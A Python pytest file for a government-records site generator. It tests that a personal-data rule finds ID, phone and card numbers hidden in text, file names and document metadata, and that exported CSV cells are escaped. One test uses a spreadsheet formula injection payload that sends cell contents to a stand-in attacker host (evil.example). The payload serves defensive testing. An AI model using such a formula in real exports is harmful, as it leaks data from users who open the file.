"""Issue #9, personal data: every way the attack day slipped an ID, mobile or card number past GK207
is now a finding — in record text, file names, attachment metadata and hidden parts, files with a
false extension — and the build's last scan refuses any that reach an output file anyway. Only the
fixed label of a withheld item's legal basis is published; CSV cells never run as formulas."""

from __future__ import annotations

import csv
import io
import json

import pytest

from generator import attachment_text
from generator.build import BuildRefused, PersonalDataInOutput, build_site, publish
from generator.check import check_site
from generator.outputs import csv_cell
from generator.public import public_view
from generator.rules.examples import decision, policy, proposal
from generator.samplefiles import docx_bytes, pdf_bytes, xlsx_bytes, zip_bytes
from generator.site import load_site

from .conftest import TODAY
from .test_attachment_text import CARD16, ID, MOBILE, attaching, lay, para

SPLIT_ID = f"{ID[:6]} {ID[6:14]} {ID[14:]}"
WRITTEN_FORMS = {
    "id-6-8-4": SPLIT_ID,
    "id-hyphens": f"{ID[:6]}-{ID[6:14]}-{ID[14:]}",
    "id-full-width": ID.translate({ord(c): ord(c) + 0xFEE0 for c in "0123456789"}),
    "mobile-plus86": "+86" + MOBILE,
    "mobile-0086": "0086" + MOBILE,
    "mobile-dots": f"{MOBILE[:3]}.{MOBILE[3:7]}.{MOBILE[7:]}",
    "mobile-nbsp": f"{MOBILE[:3]}\u00a0{MOBILE[3:7]}\u00a0{MOBILE[7:]}",
    "mobile-ideographic-space": f"{MOBILE[:3]}\u3000{MOBILE[3:7]}\u3000{MOBILE[7:]}",
    "mobile-zero-width": "\u200b".join(MOBILE),
    "mobile-line-breaks": f"{MOBILE[:3]}\n{MOBILE[3:7]}\n{MOBILE[7:]}",
    "mobile-entity": "&#49;" + MOBILE[1:],
    "mobile-bold": f"{MOBILE[:3]}**{MOBILE[3:7]}**{MOBILE[7:]}",
    "mobile-tel-link": f"[联系我们](tel:{MOBILE})",
    "mobile-html-cells": f"<sup>{MOBILE[:3]}</sup><sub>{MOBILE[3:7]}</sub>{MOBILE[7:]}",
    "card-4-4-4-4": " ".join(CARD16[i:i + 4] for i in range(0, 16, 4)),
}


def gk207(root):
    return [f for f in check_site(root, TODAY).findings if f.rule == "GK207"]


@pytest.mark.parametrize("name", sorted(WRITTEN_FORMS))
def test_every_written_form_is_found_in_record_text(make_site, name):
    body = json.dumps("各乡（镇）：\n\n联系人：" + WRITTEN_FORMS[name] + "。", ensure_ascii=False)
    root = make_site({"content/policies/fangxun.yml": policy(body=body)})
    found = gk207(root)
    assert found and all(f.severity == "error" for f in found), (name, found)


def test_masked_numbers_hotlines_and_office_lines_pass(make_site):
    body = json.dumps("联系人：138****5678，办公电话 0930-5521234，热线 12345，索引号 11622922013960001W/2026-00001，"
                      "日期 2026-11-26，身份证 622922********1232。", ensure_ascii=False)
    root = make_site({"content/policies/fangxun.yml": policy(body=body)})
    assert gk207(root) == []


def test_an_id_number_in_a_file_name_is_found(make_site):
    text = policy(attachments=attaching(("名单", f"2026/{ID}.pdf")))
    root = lay(make_site, {"content/policies/fangxun.yml": text}, {f"2026/{ID}.pdf": pdf_bytes(["Mingdan"])})
    assert any("居民身份证号" in f.message for f in gk207(root))


def pdf_with_hidden_parts() -> bytes:
    """A PDF whose page text is clean, with the number only in its Info, an annotation, a form
    field and an embedded CSV."""
    from pypdf import PdfReader, PdfWriter
    from pypdf.annotations import Text
    from pypdf.generic import ArrayObject, DictionaryObject, NameObject, TextStringObject

    writer = PdfWriter(clone_from=PdfReader(io.BytesIO(pdf_bytes(["Clean page"]))))
    writer.add_metadata({"/Author": f"Zhang {MOBILE}", "/Title": "Mingdan"})
    writer.add_annotation(0, Text(text=f"ID {ID}", rect=(50, 50, 100, 100)))
    field = DictionaryObject({NameObject("/FT"): NameObject("/Tx"), NameObject("/T"): TextStringObject("phone"),
                              NameObject("/V"): TextStringObject("+86 " + MOBILE)})
    writer._root_object[NameObject("/AcroForm")] = DictionaryObject(
        {NameObject("/Fields"): ArrayObject([writer._add_object(field)])})
    writer.add_attachment("list.csv", f"name,card\nLi,{CARD16}\n".encode())
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


CORE = ('<?xml version="1.0"?><cp:coreProperties xmlns:cp="http://schemas.openxmlformats.org/package/2006/metadata/core-properties"'
        ' xmlns:dc="http://purl.org/dc/elements/1.1/"><dc:creator>{}</dc:creator></cp:coreProperties>')
MAIN = 'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'


def xlsx_with(sheet: str = "", *, extra: dict[str, str] | None = None, workbook_extra: str = "") -> bytes:
    data = xlsx_bytes({"名单": sheet}, [])
    if not extra and not workbook_extra:
        return data
    import zipfile

    parts = {}
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        for name in z.namelist():
            parts[name] = z.read(name).decode("utf-8")
    if workbook_extra:
        parts["xl/workbook.xml"] = parts["xl/workbook.xml"].replace("</sheets>", "</sheets>" + workbook_extra)
    parts.update(extra or {})
    return zip_bytes(parts)


HIDDEN = {
    "pdf-info-annotation-form-embedded": ("a.pdf", pdf_with_hidden_parts,
                                          ("文档属性", "批注", "表单域", "嵌入文件")),
    "pdf-digit-per-box": ("a.pdf", lambda: pdf_bytes([") Tj 18 0 Td (".join(MOBILE)]), ("第1页",)),
    "docx-core-properties": ("a.docx", lambda: docx_bytes(para("Clean"), extra={"docProps/core.xml": CORE.format(MOBILE)}),
                             ("文档属性",)),
    "docx-field-code": ("a.docx", lambda: docx_bytes(
        para("Clean") + f'<w:p><w:r><w:instrText>HYPERLINK "tel:{MOBILE}"</w:instrText></w:r></w:p>'), ("域代码",)),
    "docx-digit-per-cell": ("a.docx", lambda: docx_bytes(
        "<w:tbl><w:tr>" + "".join(f"<w:tc>{para(d)}</w:tc>" for d in ID) + "</w:tr></w:tbl>"), ("正文",)),
    "docx-embedded-workbook": ("a.docx", lambda: docx_bytes(para("Clean"), extra={
        "word/embeddings/Microsoft_Excel_Worksheet.xlsx": xlsx_bytes(
            {"S": f'<row r="1"><c r="A1" t="inlineStr"><is><t>{MOBILE}</t></is></c></row>'}, [])}),
                               ("嵌入文件",)),
    "xlsx-split-cells": ("a.xlsx", lambda: xlsx_with(
        '<row r="1">' + "".join(f'<c r="{c}1"><v>{v}</v></c>' for c, v in zip("ABC", (MOBILE[:3], MOBILE[3:7], MOBILE[7:]))) + "</row>"),
                         ("工作表",)),
    "xlsx-comments": ("a.xlsx", lambda: xlsx_with(extra={
        "xl/comments1.xml": f'<comments {MAIN}><commentList><comment ref="A1"><text><t>{MOBILE}</t></text></comment></commentList></comments>'}),
                      ("批注",)),
    "xlsx-header-footer": ("a.xlsx", lambda: xlsx_with(extra={"xl/worksheets/sheet1.xml": (
        f'<?xml version="1.0"?><worksheet {MAIN}><sheetData/><headerFooter><oddFooter>&amp;L{MOBILE}</oddFooter>'
        '</headerFooter></worksheet>')}), ("页眉页脚",)),
    "xlsx-defined-names": ("a.xlsx", lambda: xlsx_with(workbook_extra=f'<definedNames><definedName name="tel">"{MOBILE}"</definedName></definedNames>'),
                           ("定义的名称",)),
    "docx-renamed-doc": ("a.doc", lambda: docx_bytes(para(f"电话 {MOBILE}")), ("正文",)),
    "xlsx-renamed-xls": ("a.xls", lambda: xlsx_with(f'<row r="1"><c r="A1" t="inlineStr"><is><t>{ID}</t></is></c></row>'),
                         ("工作表",)),
    "csv-in-zip": ("a.zip", lambda: zip_bytes({"名单/data.csv": f"姓名,电话\n李四,{MOBILE}\n"}), ("压缩包内",)),
    "id-in-zip-entry-name": ("a.zip", lambda: zip_bytes({f"{ID}.txt": "x"}), ("压缩包内文件名",)),
}


@pytest.mark.parametrize("name", sorted(HIDDEN))
def test_hidden_parts_and_false_extensions_are_scanned(make_site, name):
    attachment_text.clear_cache()
    file, make, places = HIDDEN[name]
    text = policy(attachments=attaching(("附件", f"2026/{file}")))
    root = lay(make_site, {"content/policies/fangxun.yml": text}, {f"2026/{file}": make()})
    found = [f for f in gk207(root) if f.severity == "error"]
    assert found, (name, gk207(root))
    for place in places:
        assert any(place in f.message for f in found), (name, place, [f.message for f in found])


@pytest.mark.parametrize("file,data", [("a.jpg", b"\xff\xd8\xff\xe0" + b"\x00" * 64),
                                       ("a.doc", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 504),
                                       ("a.zip", None)])
def test_unscannable_types_are_a_warning_not_silence(make_site, file, data):
    attachment_text.clear_cache()
    if data is None:
        data = zip_bytes({"scan.jpg": b"\xff\xd8\xff\xe0" + b"\x00" * 64})
    text = policy(attachments=attaching(("附件", f"2026/{file}")))
    root = lay(make_site, {"content/policies/fangxun.yml": text}, {f"2026/{file}": data})
    [f] = gk207(root)
    assert f.severity == "warning" and "无法自动检查" in f.message
    waived = policy(attachments=attaching(("附件", f"2026/{file}")),
                    waivers="\n  - rule: GK207\n    reason: 已人工核查，不含个人信息（核查人：办公室 赵宁）")
    root = lay(make_site, {"content/policies/fangxun.yml": waived}, {})
    assert gk207(root) == []  # the advisory may be acknowledged after a person checked


def test_personal_data_cannot_be_waived(make_site, tmp_path):
    body = json.dumps(f"联系人电话 {MOBILE}", ensure_ascii=False)
    root = make_site({"content/policies/fangxun.yml": policy(
        body=body, waivers="\n  - rule: GK207\n    reason: 本人同意公开")})
    found = gk207(root)
    assert any("不能豁免" in f.message for f in found) and any("手机号" in f.message for f in found)
    with pytest.raises(BuildRefused):
        build_site(root, tmp_path / "out", TODAY)


def test_build_refuses_personal_data_that_reaches_an_output_without_the_checker(make_site, tmp_path):
    body = json.dumps(f"联系人：{SPLIT_ID}", ensure_ascii=False)
    root = make_site({"content/policies/fangxun.yml": policy(body=body)})
    with pytest.raises(PersonalDataInOutput):
        publish(public_view(load_site(root, TODAY)), root, tmp_path / "out")
    assert not (tmp_path / "out").exists()


@pytest.mark.parametrize("where", ["body", "title"])
def test_a_build_cache_never_lets_personal_data_through(make_site, tmp_path, where):
    """Pages and data files a cached build remembers as clean are not scanned again; a changed page
    or file is. The number reaches the record page (body) or the feeds and data files too (title)."""
    root = make_site({"content/policies/fangxun.yml": policy()})
    cache = tmp_path / "cache"
    publish(public_view(load_site(root, TODAY)), root, tmp_path / "first", cache)
    value = f"联系人：{SPLIT_ID}"
    record = policy(body=json.dumps(value, ensure_ascii=False)) if where == "body" else policy(title=value)
    (root / "content/policies/fangxun.yml").write_text(record, encoding="utf-8")
    with pytest.raises(PersonalDataInOutput):
        publish(public_view(load_site(root, TODAY)), root, tmp_path / "second", cache)
    assert not (tmp_path / "second").exists()


SECRET_BASIS = "商业秘密（与兰州某某食品公司签订的补助协议，联系人 " + MOBILE + "）"


def test_only_the_fixed_label_of_a_withheld_basis_is_published(make_site, tmp_path):
    items = ("\n  - title: 审议《示例县农村供水工程运行管理办法》\n    outcome: 通过\n    documents: [gongshui]"
             "\n  - title: 审议企业补助\n    outcome: 通过\n    disclosure: 不予公开\n"
             f"    disclosure_basis: {json.dumps(SECRET_BASIS, ensure_ascii=False)}")
    root = make_site({"content/decisions/cwhy-5.yml": decision(items=items, waivers="\n  - rule: GK101\n    reason: 说明依据"),
                      "content/policies/gongshui.yml": policy(disclosure_basis=json.dumps("某某公司的商业秘密", ensure_ascii=False))})
    view = public_view(load_site(root, TODAY))
    assert view.withheld_items["cwhy-5"] == ["未注明"]
    assert view.records["policies"]["gongshui"].model.disclosure_basis is None
    out = tmp_path / "out"
    publish(view, root, out)
    for path in out.rglob("*"):
        if path.is_file():
            data = path.read_bytes()
            assert "兰州某某".encode() not in data and "某某公司".encode() not in data, path


def test_csv_cells_never_run_as_formulas(make_site, tmp_path):
    title = '=HYPERLINK("https://evil.example/?"&A1,"点击查看")'
    root = make_site({"content/proposals/rd-5-12.yml": proposal(title=json.dumps(title, ensure_ascii=False))})
    out = tmp_path / "out"
    publish(public_view(load_site(root, TODAY)), root, out)
    rows = list(csv.reader(io.StringIO((out / "api/proposals.csv").read_text(encoding="utf-8-sig"))))
    assert rows[1][3] == "'" + title
    for row in rows[1:]:
        assert not any(cell.startswith(("=", "+", "-", "@")) for cell in row), row
    assert [csv_cell(v) for v in ("+1", "-1", "@x", "\tx", "＝1", "正常")] == ["'+1", "'-1", "'@x", "'\tx", "'＝1", "正常"]


def _normalise_char_by_char(text: str) -> tuple[str, list[int]]:
    """The reading :func:`personal_data.normalise` promises, one character at a time: the fast path
    that copies whole runs must give exactly this."""
    import html as html_module
    import unicodedata

    from generator.personal_data import _ENTITY, _TAG

    out: list[str] = []
    where: list[int] = []

    def plain(s: str, base: int | None, offset: int) -> None:
        for i, ch in enumerate(s):
            origin = offset + i if base is None else base
            if not ch.isascii() and unicodedata.category(ch) == "Cf":
                continue
            for c in (ch if ch.isascii() else unicodedata.normalize("NFKC", ch)):
                out.append(c)
                where.append(origin)

    spans = sorted([(m.start(), m.end(), "e") for m in _ENTITY.finditer(text)]
                   + [(m.start(), m.end(), "t") for m in _TAG.finditer(text)]) + [(len(text), len(text), "")]
    pos = 0
    for start, end, kind in spans:
        if start < pos:
            continue
        plain(text[pos:start], None, pos)
        if kind == "e":
            plain(html_module.unescape(text[start:end]), start, 0)
        elif kind == "t":
            out.append(" ")
            where.append(start)
        pos = end
    return "".join(out), where


@pytest.mark.parametrize("seed", range(40))
def test_fast_normalising_reads_as_character_by_character(seed):
    import random

    from generator.personal_data import normalise, normalised_text

    rng = random.Random(seed)
    pieces = ["联系电话", "１３９", "1391234", "\u200b", "\u00ad", "\ufeff", "&#49;", "&nbsp;", "<b>", "</p>",
              "e\u0301", "\u0301", "Ａ", "ｶ", "㍿", "𠮷", "\U000e0041", "\u2028", "﹣", "〔2024〕", " ", "\n", "x"]
    text = "".join(rng.choice(pieces) for _ in range(rng.randint(0, 80)))
    assert normalise(text) == _normalise_char_by_char(text)
    assert normalised_text(text) == normalise(text)[0]


def test_a_number_written_only_in_non_ascii_digits_is_still_read():
    """The scanner skips a text without digits; superscript and full-width digits are digits too."""
    from generator.personal_data import scan

    superscript = "联系电话" + "13912345678".translate(str.maketrans("0123456789", "⁰¹²³⁴⁵⁶⁷⁸⁹"))
    fullwidth = "联系电话" + "13912345678".translate(str.maketrans("0123456789", "０１２３４５６７８９"))
    assert [f.kind for f in scan(superscript)] == ["手机号"]
    assert [f.kind for f in scan(fullwidth)] == ["手机号"]
    assert scan("没有数字的文字") == []


@pytest.mark.parametrize("seed", range(30))
def test_a_number_among_many_short_figures_is_found_where_it_is(seed):
    """The scanner reads only the digit chains long enough to hold a number; dates, article numbers
    and figures around a number, or joined to it by a separator, never hide it or move it."""
    import random

    from generator.personal_data import scan

    rng = random.Random(seed)
    figures = ["2024年5月1日", "第3条", "10.5%", "2024-05-01", "〔2024〕17号", "第12期", "1 2 3", "3.14",
               "共 1,234 户", "电话", "联系人", "。", "\n", "| 7 | 8 |", "X", "x9", "12-34", "（5）"]
    number = rng.choice([MOBILE, ID, SPLIT_ID, f"{MOBILE[:3]}-{MOBILE[3:7]}-{MOBILE[7:]}", " ".join(MOBILE)])
    before = "".join(rng.choice(figures) for _ in range(rng.randint(0, 40)))
    after = "".join(rng.choice(figures) for _ in range(rng.randint(0, 40)))
    text = f"{before}：{number}；{after}"
    found = scan(text)
    digits = "".join(c for c in number if c.isdigit() or c == "X")
    assert [(f.offset, f.digits) for f in found] == [(len(before) + 1, digits)], text
